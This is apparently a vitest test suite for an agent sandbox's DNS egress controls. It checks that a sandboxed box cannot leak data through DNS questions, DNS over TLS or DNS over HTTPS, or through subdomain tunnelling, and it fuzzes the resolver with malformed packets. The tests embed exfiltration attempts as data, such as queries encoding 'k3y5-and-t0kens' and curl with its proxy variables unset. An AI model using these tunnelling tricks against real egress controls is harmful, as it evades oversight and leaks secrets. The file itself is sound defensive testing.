/**
 * Threat 1: names as a way out. No question of a box, to any server over any transport, ever leaves it; only for a name
 * that the policy allows does the gate ask, on the host, when a program connects.
 */
import { expect, it } from "vitest";
import { addresses } from "../support/network.ts";
import {
  boxOn,
  expectDenied,
  type NetworkGround,
  onNetwork,
  script,
  shell,
} from "../support/network-ground.ts";

const box = "dns-box";

const questions = async ({ network }: NetworkGround): Promise<readonly string[]> =>
  (await network.arrivals()).flatMap((arrival) => (arrival.kind === "dns" ? [arrival.name] : []));

/** Sends one question in each way there is and tells what came back; `none` when nothing did. */
const askEveryWay = (name: string): string => `
  const dgram = require("node:dgram"), net = require("node:net");
  const encode = (name, type) => Buffer.concat([Buffer.from([0,7,1,0,0,1,0,0,0,0,0,0]),
    ...name.split(".").map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)])), Buffer.from([0,0,type,0,1])]);
  const later = (resolve) => setTimeout(() => resolve("none"), 1500).unref();
  const udp = (server, type, family) => new Promise((resolve) => {
    later(resolve);
    const socket = dgram.createSocket(family ?? "udp4");
    socket.on("message", (message) => { resolve({ rcode: message[3] & 15, answers: message[7] }); socket.close(); });
    socket.on("error", (error) => resolve(error.code));
    socket.send(encode(${JSON.stringify(name)}, type), 53, server, (error) => { if (error) resolve(error.code); });
  });
  const tcp = (server, port) => new Promise((resolve) => {
    later(resolve);
    const socket = net.connect(port, server), query = encode(${JSON.stringify(name)}, 1);
    socket.on("connect", () => socket.write(Buffer.concat([Buffer.from([0, query.length]), query])));
    socket.on("data", (message) => { resolve({ rcode: message[5] & 15, answers: message[9] }); socket.destroy(); });
    socket.on("error", (error) => resolve(error.code)).on("close", () => resolve("closed"));
  });
  (async () => {
    const result = {
      udpDefault: await udp("127.0.0.1", 1), aaaa: await udp("127.0.0.1", 28), txt: await udp("127.0.0.1", 16),
      mx: await udp("127.0.0.1", 15), any: await udp("127.0.0.1", 255), https: await udp("127.0.0.1", 65),
      udpForeign: await udp("8.8.8.8", 1), udpOwnServer: await udp(${JSON.stringify(addresses.dns)}, 1),
      udpSix: await udp("2001:db8:2::10", 1, "udp6"),
      tcpDefault: await tcp("127.0.0.1", 53), tcpForeign: await tcp("8.8.8.8", 53), dot: await tcp("8.8.8.8", 853),
    };
    console.log(JSON.stringify(result));
    process.exit(0);
  })();`;

interface Answers {
  readonly [way: string]: string | { rcode: number; answers: number };
}

onNetwork(
  "names",
  (ground) => {
    it("never asks about a name that is not allowed, of whomever the box asks", async () => {
      const { daemon, network } = ground;
      // The control: from the host, the same questions reach the authoritative server, and the public one.
      for (const server of [addresses.dns, addresses.publicDns])
        await network.onHost(["dig", "+short", "+tries=1", "+time=2", `@${server}`, "control.denied.test"]);
      expect(await questions(ground)).toEqual(["control.denied.test", "control.denied.test"]);
      await network.forget();
      const packets = network.packets();
      const answers = await script<Answers>(daemon, box, askEveryWay("k3y5-and-t0kens.denied.test"));
      for (const way of ["udpForeign", "udpOwnServer", "udpSix", "tcpForeign", "dot"])
        expect(answers[way], way).toMatch(/^(E[A-Z]+|none|closed)$/);
      for (const way of ["aaaa", "txt", "mx", "any", "https"]) {
        const answer = answers[way];
        if (typeof answer === "object") expect(answer.answers, way).toBe(0);
      }
      expect(await questions(ground)).toEqual([]);
      expect(network.packets()).toBe(packets);
    });

    it("asks about an allowed name only when somebody connects, and only on the host", async () => {
      const { daemon } = ground;
      // The box's own server answers, or nothing could connect at all; the authoritative one hears nothing.
      expect((await shell(daemon, box, "getent hosts api.test")).stdout).toMatch(
        /^127\.(6[4-9]|[7-9]\d|1[01]\d|12[0-7])\./,
      );
      expect(await questions(ground)).toEqual([]);
      const answer = await shell(daemon, box, "curl -sS http://api.test/asked");
      expect(answer).toMatchObject({ code: 0, stdout: expect.stringContaining("the internet") });
      const asked = await questions(ground);
      expect(asked).toContain("api.test");
      expect(new Set(asked)).toEqual(new Set(["api.test"]));
    });

    it("does not tunnel through names below an allowed one, or through its letters", async () => {
      const { daemon } = ground;
      for (const name of ["s3cret.api.test", "aPi.tEst"])
        await shell(
          daemon,
          box,
          `dig +short +tries=1 +time=1 ${name}; getent hosts ${name}; curl -sS -m 5 http://${name}/`,
        );
      // The name that is judged is the name that is asked for: letters that vary carry nothing.
      expect((await questions(ground)).filter((name) => name !== "api.test")).toEqual([]);
    });

    it("refuses DNS over HTTPS to a name that is not allowed, and says so", async () => {
      const { daemon, network } = ground;
      const query =
        "curl -sS -m 10 -H 'accept: application/dns-json' 'https://doh.test/dns-query?name=k3y.denied.test'";
      await expectDenied(daemon, box, { host: "doh.test", port: 443 }, async () => {
        const { stdout } = await shell(daemon, box, query);
        expect(JSON.parse(stdout)).toMatchObject({
          code: "egress.denied",
          by: "AgentBox",
          reason: "no_rule",
        });
      });
      expect(await network.arrivals()).toEqual([]);
      const curlDoh = "curl -sS -m 10 --doh-url https://doh.test/dns-query http://api.test/";
      await shell(daemon, box, `env -u http_proxy -u HTTP_PROXY -u all_proxy -u ALL_PROXY ${curlDoh}`);
      expect((await network.arrivals()).filter(({ kind }) => kind === "http")).toEqual([]);
    });

    it("survives packets that are no questions", async () => {
      const { daemon } = ground;
      const noise = `const dgram = require("node:dgram"), net = require("node:net"), crypto = require("node:crypto");
        const socket = dgram.createSocket("udp4");
        const bad = [Buffer.alloc(0), Buffer.alloc(1), Buffer.alloc(11), Buffer.alloc(12), Buffer.alloc(12, 255),
          Buffer.from("000701000001000000000000c00c00010001", "hex"), Buffer.from("0007010000010000000000003f", "hex"),
          Buffer.from("00078180000100000000000003617069047465737400000100 01".replace(" ", ""), "hex"), crypto.randomBytes(4096),
          ...Array.from({ length: 200 }, (_, n) => crypto.randomBytes(n + 1))];
        for (const packet of bad) socket.send(packet, 53, "127.0.0.1");
        const stream = net.connect(53, "127.0.0.1").on("error", () => {});
        stream.write(Buffer.from("ffff00", "hex")); stream.write(crypto.randomBytes(70000));
        setTimeout(() => { console.log("1"); process.exit(0); }, 500);`;
      await script<number>(daemon, box, noise);
      expect((await shell(daemon, box, "curl -sS http://api.test/alive")).code).toBe(0);
    });
  },
  { prepare: ({ daemon }) => boxOn(daemon, box, { allow: ["api.test"] }) },
);
